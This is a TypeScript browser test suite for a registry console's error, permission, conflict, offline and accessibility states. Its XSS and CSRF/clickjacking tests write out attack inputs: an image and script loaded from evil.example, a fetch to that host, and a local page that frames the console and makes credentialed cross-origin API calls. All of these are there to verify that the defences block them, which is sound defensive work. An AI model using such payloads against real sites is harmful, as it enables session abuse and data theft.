import assert from 'node:assert/strict'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { test } from 'node:test'
import { newName } from '../support/api/api-fixture.ts'
import { waitUntil } from '../support/browser/chromium.ts'
import { descriptionOf } from '../support/console/console-page.ts'
import { consoleSuite } from '../support/console/console-suite.ts'
import { HACKED, LONG, MARKUP, OVERRIDE } from '../support/console/hostile.ts'
import { bearerOf, ociClient, pushImage } from '../support/registry/registry.ts'
import { assertAccessible, takePictures } from '../support/signin/axe.ts'

/** What pages of the console show when something is missing, forbidden, hostile or in conflict, and how they look. */

consoleSuite('states of the console', (cast) => {
  test('a viewer sees what they lack, and the API refuses it too', async () => {
    const organization = await cast().organization()
    const { page, problems, open, identity } = await cast().signIn('viewer', organization.uid)
    const folder = await cast().admin.create(`iam/groups/${organization.uid}`, { name: 'team' })
    await open(`/folders/${folder.uid}`, 'team')
    for (const [tab, name, capability] of [
      ['Folders', 'Create a folder', 'groups.create'],
      ['Settings', 'Edit', 'groups.update'],
      ['Settings', 'Delete', 'groups.delete'],
    ] as const) {
      await page.getByRole('tab', { name: tab, exact: true }).click()
      await page.getByText(`Requires the capability ${capability}`).waitFor()
      const button = page.getByRole('button', { name, exact: true })
      assert.equal(await button.isDisabled(), true, name)
      assert.match(await descriptionOf(button), new RegExp(capability))
    }
    await page.getByRole('tab', { name: 'People' }).click()
    await page.getByText('Requires the capability role_bindings.create').waitFor()
    const token = await cast().berth.tokenOf(identity)
    const refused = await fetch(`${cast().berth.url}/iam/v2beta1/groups/${organization.uid}`, {
      method: 'POST',
      headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
      body: '{"name":"x"}',
    })
    assert.equal(refused.status, 403)
    assert.deepEqual(problems, [])
  })

  test('a user with a role in one folder finds it, and nothing above it', async () => {
    const organization = await cast().organization()
    const folder = await cast().admin.create(`iam/groups/${organization.uid}`, { name: 'team' })
    const repo = await cast().admin.create(`registry/repos/${folder.uid}`, { name: 'app' })
    const { page, problems, open } = await cast().signIn('viewer', folder.uid)
    await open('', 'Home')
    await page.getByText('You can see folders of organizations').waitFor()
    await page.getByRole('tree', { name: 'Folders of team' }).waitFor()
    assert.equal(await page.getByRole('link', { name: 'Organization settings' }).count(), 0)
    await takePictures(page, 'home of a user of one folder')
    await page.getByRole('link', { name: 'team' }).click()
    await page.getByRole('heading', { level: 1, name: 'team' }).waitFor()
    await page.getByText(`berth iam folders list ${organization.name}/team`).waitFor()
    await open(`/repos/${repo.uid}`, 'app')
    await page.getByText(`/${organization.name}/team/app:latest`).first().waitFor()
    await open(`/folders/${organization.uid}`, 'Not found')
    assert.deepEqual(problems, [])
  })

  test('a role without a capability names it in the place of the list', async () => {
    const organization = await cast().organization()
    const role = await cast().admin.create(`iam/roles/${organization.uid}`, {
      name: newName('reader'),
      capabilities: ['CAP_IAM_GROUPS_LIST'],
    })
    const { page, problems, open } = await cast().signIn(role.uid, organization.uid)
    for (const [tab, capability] of [
      ['repositories', 'repo.list'],
      ['people', 'role_bindings.list'],
      ['identities', 'identity.list'],
    ]) {
      await open(`/folders/${organization.uid}?tab=${tab}`, organization.name)
      await page.getByText(`Requires the capability ${capability}`).first().waitFor()
      await takePictures(page, `${tab} without permission`)
    }
    assert.deepEqual(problems, [])
  })

  test('addresses of nothing say so', async () => {
    const organization = await cast().organization()
    const { page, problems, open } = await cast().signIn('viewer', organization.uid)
    for (const path of [
      '/none',
      `/folders/${'0'.repeat(40)}`,
      '/folders/x',
      '/folders/..%2f',
      `/repos/${organization.uid}/${'1'.repeat(16)}`,
      '/folders/',
    ])
      await open(path, 'Not found')
    await page.getByRole('link', { name: 'Go to the home page' }).click()
    await page.getByRole('heading', { level: 1, name: 'Home' }).waitFor()
    assert.deepEqual(problems, [])
  })

  test('a change by someone else is a conflict: nothing is overwritten', async () => {
    const organization = await cast().organization()
    const { page, problems, open } = await cast().signIn('owner', organization.uid)
    await open(`/folders/${organization.uid}?tab=settings`, organization.name)
    await page.getByRole('button', { name: 'Edit', exact: true }).click()
    const description = page.getByRole('textbox', { name: 'Description' })
    await description.fill('Mine')
    await cast().admin.patch(`iam/groups/${organization.uid}`, { description: 'Theirs' })
    await page.getByRole('button', { name: 'Save' }).click()
    await page.getByText('Someone else changed this in the meantime').waitFor()
    await takePictures(page, 'conflict')
    assert.equal((await cast().admin.get(`iam/groups/${organization.uid}`)).body.description, 'Theirs')
    await page.getByRole('button', { name: 'Load the current version' }).click()
    await waitUntil(page, 'document.querySelectorAll("[role=dialog] input")[1].value === "Theirs"')
    await description.fill('Both')
    await page.getByRole('button', { name: 'Save' }).click()
    await page.getByRole('main').getByText('Both').first().waitFor()
    assert.deepEqual(problems, [])
  })

  test('without a connection, a page says so and recovers; after the session, it asks to sign in', async () => {
    const organization = await cast().organization()
    const { page, problems, open } = await cast().signIn('viewer', organization.uid)
    await open(`/folders/${organization.uid}`, organization.name)
    await page.context().setOffline(true)
    await page.getByRole('tab', { name: 'Repositories' }).click()
    await page.getByText('This part of the page is not available').waitFor()
    await takePictures(page, 'offline')
    await page.context().setOffline(false)
    await page.getByRole('button', { name: 'Load the page again' }).click()
    await page.getByText('There are no repositories yet').waitFor()
    await page.context().setOffline(true)
    await page.evaluate('window.dispatchEvent(new Event("visibilitychange"))')
    await page.getByText('This list may not be current. The server does not respond').waitFor()
    await takePictures(page, 'offline list')
    await page.context().setOffline(false)
    await page.evaluate('window.dispatchEvent(new Event("visibilitychange"))')
    await page.getByText('This list may not be current').waitFor({ state: 'detached' })
    await page.context().clearCookies()
    await page.getByRole('tab', { name: 'Identities' }).click()
    await page.getByText('You are no longer signed in.').waitFor()
    await takePictures(page, 'session ended')
    const tab = page.waitForEvent('popup')
    await page.getByRole('link', { name: 'Sign in in another tab' }).click()
    await (await tab).waitForURL(/\/sign-in\?request=%2Fconsole%2Ffolders/)
    const notLoaded = /Failed to fetch dynamically imported module/
    assert.deepEqual(
      problems.filter((problem) => !notLoaded.test(problem)),
      [],
    )
  })

  test('XSS: markup in descriptions and READMEs is text, and links run no scripts', async () => {
    const organization = await cast().organization()
    const { admin } = cast()
    const repo = await admin.create(`registry/repos/${organization.uid}`, {
      name: 'app',
      description: MARKUP,
    })
    await admin
      .create(`iam/groups/${organization.uid}`, { name: 'team', description: `${MARKUP}${OVERRIDE}` })
      .catch(() => undefined)
    await admin.patch(`iam/groups/${organization.uid}`, { description: MARKUP })
    const content = `# Title <b>bold</b>\n\n<details open>\n\nText\n\n</details>\n\n[mail](mailto:a@example.com) ![picture](https://evil.example/track.png)\n\n\`<i>\`\n`
    assert.equal((await admin.patch(`registry/repos/${repo.uid}/readme`, { content })).status, 200)
    const { page, problems, open } = await cast().signIn('viewer', organization.uid)
    const requests: string[] = []
    page.on('request', (request) => requests.push(request.url()))
    await open(`/folders/${organization.uid}`, organization.name)
    await page.getByText(MARKUP).first().waitFor()
    await open(`/repos/${repo.uid}`, 'app')
    await page.getByText(MARKUP).waitFor()
    await page.getByRole('tab', { name: 'README' }).click()
    await page.getByText('Title <b>bold</b>').waitFor()
    await page.getByRole('link', { name: 'picture' }).waitFor()
    assert.equal(await page.locator('.readme').locator('img, script, details, b').count(), 0)
    assert.equal(await page.evaluate(HACKED), undefined)
    assert.deepEqual(
      requests.filter((url) => !url.startsWith(cast().berth.url)),
      [],
    )
    assert.deepEqual(problems, [])
  })

  test('XSS: the policy of the page stops injected scripts, styles, markup and requests to other hosts', async () => {
    const organization = await cast().organization()
    const { page, open, problems } = await cast().signIn('viewer', organization.uid)
    await open('', 'Home')
    const blocked = await page.evaluate<Record<string, unknown>>(`(async () => {
      const attempt = (work) => { try { return String(work()) } catch (error) { return error.name } }
      const script = document.createElement('script')
      return {
        markup: attempt(() => (document.body.innerHTML = '<b>x</b>')),
        script: attempt(() => (script.text = 'window.hacked = 1')),
        source: attempt(() => (script.src = 'https://evil.example/x.js')),
        evaluated: await new Promise((done) => setTimeout(() => done(attempt(() => new Function('return 1')())))),
        request: await fetch('https://evil.example/').catch((error) => error.name),
        inline: await new Promise((done) => {
          addEventListener('securitypolicyviolation', (event) => event.effectiveDirective === 'style-src-elem' && done(event.blockedURI))
          const style = document.createElement('style')
          style.textContent = 'body { display: none }'
          document.head.append(style)
        }),
      }
    })()`)
    assert.deepEqual(blocked, {
      markup: 'TypeError',
      script: 'TypeError',
      source: 'TypeError',
      evaluated: 'EvalError',
      request: 'TypeError',
      inline: 'inline',
    })
    assert.ok(problems.length > 0, 'violations fail the other tests')
  })

  test('CSRF and clickjacking: a page of another origin neither frames the console nor calls the API with the session', async () => {
    const organization = await cast().organization()
    const { page } = await cast().signIn('owner', organization.uid)
    const { url } = cast().berth
    // Another host for the browser, but the same site: the cookie is sent.
    const evil = createServer((_, response) => {
      response.setHeader('content-type', 'text/html')
      response.end(`<!doctype html><iframe src="${url}/console"></iframe>`)
    })
    await new Promise<void>((done) => evil.listen(0, '127.0.0.1', done))
    try {
      await page.goto(`http://127.0.0.1:${(evil.address() as AddressInfo).port}/`)
      await page.waitForTimeout(500)
      const framed = page.frames()[1]
      assert.ok(framed !== undefined && !framed.url().startsWith(url), 'the console is in a frame')
      const call = (init: object) =>
        page.evaluate<string>(
          `fetch('${url}/iam/v2beta1/groups/${organization.uid}', { credentials: 'include', ...${JSON.stringify(init)} }).then((r) => r.type + r.status, (e) => e.name)`,
        )
      assert.equal(await call({}), 'TypeError')
      assert.equal(await call({ headers: { 'x-berth-csrf': 'guess' } }), 'TypeError')
      assert.equal(await call({ method: 'POST', mode: 'no-cors', body: '{"name":"planted"}' }), 'opaque0')
      const { groups } = (await cast().admin.get('iam/groups', { name: 'planted' })).body
      assert.deepEqual(groups, [])
    } finally {
      evil.close()
    }
  })

  test('every page and dialog passes axe at 375 and 1280 pixels, light and dark, also with very long names', async () => {
    const { berth, admin } = cast()
    const organization = await admin.create('iam/groups', {
      name: `${newName('org')}-${LONG}`.slice(0, 60),
      description: LONG.repeat(4),
    })
    const folder = await admin.create(`iam/groups/${organization.uid}`, {
      name: LONG,
      description: 'A long description. '.repeat(12),
    })
    await admin.create(`iam/groups/${folder.uid}`, { name: 'below' })
    const repo = await admin.create(`registry/repos/${folder.uid}`, { name: 'app', description: LONG })
    const registry = ociClient(berth, await bearerOf(berth, berth.owner))
    await pushImage(registry, `${organization.name}/${LONG}/app`, undefined, `v1-${LONG}`)
    const content = `# ${LONG}\n\n${LONG.repeat(5)}\n\n| a | b |\n|---|---|\n| ${LONG} | ${LONG} |\n\n\`\`\`\n${LONG.repeat(5)}\n\`\`\`\n`
    assert.equal((await admin.patch(`registry/repos/${repo.uid}/readme`, { content })).status, 200)
    await admin.create(`iam/identities/${folder.uid}`, {
      name: LONG,
      claimMatch: { issuer: 'https://issuer.example', subject: 'robot' },
    })
    await admin.create(`iam/groupInvites/${folder.uid}`, {
      roleUid: (await admin.get('iam/roles', { name: 'viewer' })).body.roles[0].uid,
      email: `${LONG.slice(0, 50)}@example.com`,
      ttl: '3600s',
    })
    const { page, problems, open, visit } = await cast().signIn('owner', organization.uid)
    const dialogs: readonly (readonly [name: string, path: string, heading: string, button: string])[] = [
      ['home', '', 'Home', 'Create an organization'],
      ['home', '', 'Home', 'User menu'],
      ['folder', `/folders/${folder.uid}`, LONG, 'Create a folder'],
      ['folder settings', `/folders/${folder.uid}?tab=settings`, LONG, 'Edit'],
      ['folder settings', `/folders/${folder.uid}?tab=settings`, LONG, 'Delete'],
      ['folder', `/folders/${folder.uid}?tab=repositories`, LONG, 'Create a repository'],
      ['repository', `/repos/${repo.uid}?tab=settings`, 'app', 'Edit'],
      ['repository', `/repos/${repo.uid}?tab=settings`, 'app', 'Delete'],
    ]
    const pages: readonly (readonly [name: string, path: string, heading: string])[] = [
      ['home', '', 'Home'],
      ['not found', '/none', 'Not found'],
      ['organization', `/folders/${organization.uid}`, organization.name],
      ['repositories', `/folders/${folder.uid}?tab=repositories`, LONG],
      ['people', `/folders/${folder.uid}?tab=people`, LONG],
      ['identities', `/folders/${folder.uid}?tab=identities`, LONG],
      ['repository', `/repos/${repo.uid}`, 'app'],
    ]
    for (const [name, path, heading] of pages) {
      await visit(path, heading)
      await assertAccessible(page, name)
    }
    for (const [name, path, heading, button] of dialogs) {
      await page.setViewportSize({ width: 1280, height: 800 })
      // A menu of the frame stays open with the frame.
      await open(path, heading)
      await page.getByRole('button', { name: button, exact: true }).click()
      await assertAccessible(page, `${name} dialog ${button}`)
    }
    await page.setViewportSize({ width: 1280, height: 800 })
    await open('', 'Home')
    await page.keyboard.press('Control+k')
    await page.keyboard.type('below')
    await page.getByRole('option').first().waitFor()
    await assertAccessible(page, 'search')
    const viewer = await cast().signIn('viewer', organization.uid)
    await viewer.visit(`/folders/${folder.uid}?tab=people`, LONG)
    await assertAccessible(viewer.page, 'people of a viewer')
    assert.deepEqual([...problems, ...viewer.problems], [])
  })
})
